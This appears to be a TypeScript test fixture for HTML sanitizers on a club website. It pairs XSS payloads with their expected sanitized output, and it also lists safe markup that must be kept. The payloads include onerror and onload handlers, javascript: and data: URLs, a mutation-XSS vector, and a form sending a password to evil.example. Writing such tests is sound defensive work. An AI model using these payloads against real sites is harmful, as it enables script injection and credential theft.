/** XSS vectors and what the site's policy makes of them (shared by both sanitizers). */
export const dirtyVectors: [string, string][] = [
  ['<img src=x onerror=alert(1)>', ''],
  ['<p>Pool<img src="pool.jpg"></p>', '<p>Pool</p>'],
  ["<script>alert('xss')</script>", ''],
  ['<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="  JaVaScRiPt:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', '<a>x</a>'],
  ['<svg><script>alert(1)</script></svg>', ''],
  ['<svg onload=alert(1)>', ''],
  ['<iframe src=javascript:alert(1)>', ''],
  ['<style>body{display:none}</style><p>Hi</p>', '<p>Hi</p>'],
  ['<form action="https://evil.example"><input name="password"></form>', ''],
];

/** The mutation-XSS vector (namespace confusion through math/mglyph/style). */
export const mxssVector = '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>';

/** Content that must come through (links to new tabs gain rel=noopener). */
export const keptVectors: [string, string][] = [
  [
    '<a href="https://club.example" target="_blank">Site</a>',
    '<a href="https://club.example" target="_blank" rel="noopener noreferrer">Site</a>',
  ],
  ['<a href="/news" target="_top">News</a>', '<a href="/news">News</a>'],
  ['<a href="mailto:info@club.example">Mail</a>', '<a href="mailto:info@club.example">Mail</a>'],
  [
    '<img src="https://media.example/pool.jpg" alt="Pool">',
    '<img src="https://media.example/pool.jpg" alt="Pool">',
  ],
  [
    '<p><strong>Dress</strong> code: <em>smart</em></p><ul><li>One</li></ul>',
    '<p><strong>Dress</strong> code: <em>smart</em></p><ul><li>One</li></ul>',
  ],
];
